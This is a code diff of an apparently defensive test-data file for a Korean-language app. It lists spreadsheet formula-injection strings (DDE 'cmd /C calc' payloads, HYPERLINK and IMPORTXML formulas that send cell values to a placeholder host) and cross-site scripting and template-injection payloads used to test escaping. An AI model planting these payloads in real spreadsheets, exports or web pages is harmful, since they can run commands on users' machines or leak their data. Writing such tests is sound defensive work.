@@ -138,13 +138,15 @@ def double_encoded():
 FORMULAS = [
     "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
     '=HYPERLINK("http://example.invalid/?x="&A1,"클릭")', '=IMPORTXML(CONCAT("http://example.invalid/?v=",A2),"//a")',
-    "\t=1+1", "\r=1+1", "＝1+1", '"=1+1"', "'=1+1", "-환불해 주세요", "=^^= 감사합니다", "+82 10-0000-0000",
-    "- 첫째", "@담당자 확인", "%0A=1+1", "1+1=2",
+    "\t=1+1", "\r=1+1", "＝1+1", '"=1+1"', "'=1+1", ";=1+1", "%0A=1+1", "-환불 안 돼요", "+82 2 1234 5678",
+    "@담당자 확인 바람", "=^^= 고마워요", 'DDE ("cmd";"/C calc";"x")',
 ]  # fmt: skip
 MARKUP = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "**굵게** _기울임_", "[링크](javascript:alert(1))",
-    "![](http://example.invalid/x.png)", "$E=mc^2$", ":red[경고]", ":material/home:", "<b>bold</b>", "# 제목",
-    "| a | b |", "```code```", "&lt;b&gt;", "{{7*7}}", "%s %d {0}",
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>',
+    '<a href="javascript:alert(1)">결제</a>', "[링크](javascript:alert(1))", "![x](http://example.invalid/track.png)",
+    "</style><script>alert(1)</script>", "{{7*7}} ${7*7} <%= 7*7 %>", "<iframe src=//example.invalid>",
+    "&lt;b&gt;이미 이스케이프&lt;/b&gt;", "<b onmouseover=alert(1)>굵게", "`code` **굵게** # 제목", "| a | b |\n|---|---|",
+    "$x^2$ :red[빨강] :material/home: :streamlit:", "<!-- 주석 --><style>body{display:none}</style>",
 ]  # fmt: skip
 
 
